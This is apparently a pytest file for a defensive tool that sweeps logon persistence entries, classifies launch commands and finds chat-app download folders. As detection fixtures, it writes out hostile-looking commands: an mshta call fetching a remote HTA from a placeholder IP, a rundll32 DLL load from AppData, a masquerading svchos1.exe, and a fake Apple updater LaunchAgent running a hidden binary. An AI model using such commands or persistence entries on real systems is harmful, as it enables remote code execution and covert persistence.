"""Logon registration files (XDG autostart, LaunchAgent), command-line splitting, the chat
apps' receive folders on a fake Windows profile, and the macOS collector on plists."""

from __future__ import annotations

import plistlib
import shlex
import sys
from pathlib import Path

from filewall.desktop import autostart
from filewall.desktop.locations import (
    RECEIVE_FOLDERS,
    Bases,
    find_receive_folders,
    watch_folders,
    wechat_roots,
)
from filewall.desktop.sweep import SweepOptions, run_sweep
from filewall.desktop.sweep.commands import posix_launch, windows_launch
from filewall.desktop.sweep.linux import desktop_entry
from filewall.desktop.sweep.target import classify_posix, classify_windows


def test_xdg_autostart_file(tmp_path):
    data = tmp_path / "my data"
    installed = autostart.install(data, home=tmp_path, system="linux")
    text = Path(installed.where).read_text()
    exec_line = desktop_entry(text)["Exec"]
    assert shlex.split(exec_line) == [sys.executable, "-m", "filewall", "watch", "--data", str(data)]
    assert autostart.is_own_command(exec_line)
    assert not autostart.is_own_command(["/tmp/python", "-m", "filewall", "watch"])  # not this Python


def test_launch_agent_plist(tmp_path):
    installed = autostart.install(tmp_path / "data", home=tmp_path, system="darwin")
    assert installed.where == str(tmp_path / "Library" / "LaunchAgents" / "com.filewall.watch.plist")
    agent = plistlib.loads(Path(installed.where).read_bytes())
    assert agent["Label"] == "com.filewall.watch" and agent["RunAtLoad"] is True
    assert agent["ProgramArguments"][1:4] == ["-m", "filewall", "watch"]
    result = run_sweep(SweepOptions(os="macos", homes=[tmp_path], files=False, processes=False))
    own = [entry for entry in result.entries if entry.source == "launchd" and entry.name == "com.filewall.watch"]
    assert own and own[0].known_good and own[0].verdict == "clean"
    assert autostart.uninstall(home=tmp_path, system="darwin") == [installed.where]


def test_macos_launch_agents_offline(tmp_path):
    root = tmp_path / "mac"
    (root / "System" / "Library").mkdir(parents=True)
    (root / "Library" / "LaunchDaemons").mkdir(parents=True)
    user_agents = root / "Users" / "shop" / "Library" / "LaunchAgents"
    user_agents.mkdir(parents=True)
    (root / "Library" / "LaunchDaemons" / "com.docker.vmnetd.plist").write_bytes(plistlib.dumps(
        {"Label": "com.docker.vmnetd", "Program": "/Library/PrivilegedHelperTools/com.docker.vmnetd",
         "ProgramArguments": ["/Library/PrivilegedHelperTools/com.docker.vmnetd"], "RunAtLoad": True}))
    (user_agents / "com.apple.updater.plist").write_bytes(plistlib.dumps(
        {"Label": "com.apple.updater", "ProgramArguments": ["/bin/sh", "-c", "/Users/shop/.local/.u/agent"],
         "RunAtLoad": True, "KeepAlive": True}, fmt=plistlib.FMT_BINARY))
    result = run_sweep(SweepOptions(root=root, files=False))
    assert result.target.os == "macos"
    names = {entry.name: entry for entry in result.entries}
    assert names["com.docker.vmnetd"].verdict == "clean"
    fake = names["com.apple.updater"]
    assert fake.image == "/Users/shop/.local/.u/agent" and fake.verdict != "clean"


def test_command_lines():
    launch = windows_launch(r'"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background')
    assert launch.image == r"C:\Program Files\Microsoft OneDrive\OneDrive.exe" and launch.host is None
    assert windows_launch(r"C:\Program Files\App Dir\app.exe -x").image == r"C:\Program Files\App Dir\app.exe"
    rundll = windows_launch(r'rundll32.exe "C:\Users\a\AppData\Roaming\x.dll",Start')
    assert rundll.image == r"C:\Users\a\AppData\Roaming\x.dll" and rundll.host == "rundll32.exe"
    mshta = windows_launch("mshta.exe https://203.0.113.7/p.hta")
    assert mshta.url == "https://203.0.113.7/p.hta" and mshta.host == "mshta.exe"
    cmd = windows_launch(r'cmd.exe /c start "" "C:\Users\Public\Documents\MM\svchos1.exe"')
    assert cmd.image == r"C:\Users\Public\Documents\MM\svchos1.exe"
    assert posix_launch("/usr/bin/nm-applet --indicator").image == "/usr/bin/nm-applet"
    assert posix_launch('sh -c "nohup ~/.cache/.x/upd >/dev/null"').image == "~/.cache/.x/upd"
    assert posix_launch("python3 -m http.server").image == "python3"  # a module, not a file: the program itself
    assert classify_windows(r"%APPDATA%\x.exe") == "appdata"
    assert classify_windows(r"C:\Users\a\AppData\Local\Temp\y.exe") == "temp"
    assert classify_windows(r"C:\Users\a\Documents\WeChat Files\wxid_1\FileStorage\File\2026-11\a.exe") == "chat"
    assert classify_windows("explorer.exe") == "system"
    assert classify_posix("/home/a/.cache/.x/upd") == "hidden"
    assert classify_posix("/home/a/.cargo/bin/rg") == "user_profile"
    assert classify_posix("/dev/shm/x") == "temp" and classify_posix("/usr/sbin/nginx") == "system"


def test_chat_receive_folders_on_a_windows_profile(tmp_path):
    profile = tmp_path / "Users" / "Agent"
    documents = profile / "Documents"
    wanted = [
        documents / "WeChat Files" / "wxid_abc123" / "FileStorage" / "File",
        documents / "Tencent Files" / "123456789" / "FileRecv",
        documents / "Tencent Files" / "123456789" / "nt_qq" / "nt_data" / "File",
        documents / "WXWork" / "1688850000000001" / "Cache" / "File",
    ]
    moved = tmp_path / "D" / "xwechat_files" / "wxid_abc123_9f3e" / "msg" / "file"
    for folder in wanted + [moved]:
        folder.mkdir(parents=True)
    (documents / "WeChat Files" / "All Users").mkdir()  # not an account: no FileStorage below
    appdata = profile / "AppData" / "Roaming"
    config = appdata / "Tencent" / "xwechat" / "config"
    config.mkdir(parents=True)
    (config / "a1b2.ini").write_text(str(tmp_path / "D"), encoding="utf-8")
    roots = wechat_roots(appdata)
    assert roots == [tmp_path / "D"]
    bases = Bases(documents=[documents, *roots], home=[profile], appdata=[appdata])
    found = find_receive_folders(bases)
    assert sorted(str(item.path) for item in found) == sorted(str(path) for path in wanted + [moved])
    apps = {item.app for item in found}
    assert {"WeChat 3.x", "WeChat 4.x", "QQ", "QQ NT", "WeCom"} <= apps
    assert all(row.base in Bases.__dataclass_fields__ for row in RECEIVE_FOLDERS)
    (profile / "Downloads").mkdir()
    listed = watch_folders(bases, chat_apps=True)
    assert listed[-1].path == profile / "Downloads" and len(listed) == len(found) + 1
    assert [item.path for item in watch_folders(bases, chat_apps=False)] == [profile / "Downloads"]
